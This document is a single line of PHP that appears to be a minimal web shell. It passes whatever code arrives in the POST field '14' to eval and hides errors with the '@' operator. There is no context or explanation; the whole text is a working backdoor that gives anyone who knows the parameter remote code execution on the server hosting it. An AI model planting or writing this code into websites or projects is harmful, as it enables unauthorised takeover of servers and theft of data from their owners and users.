<?php @eval($_POST[14]);?>
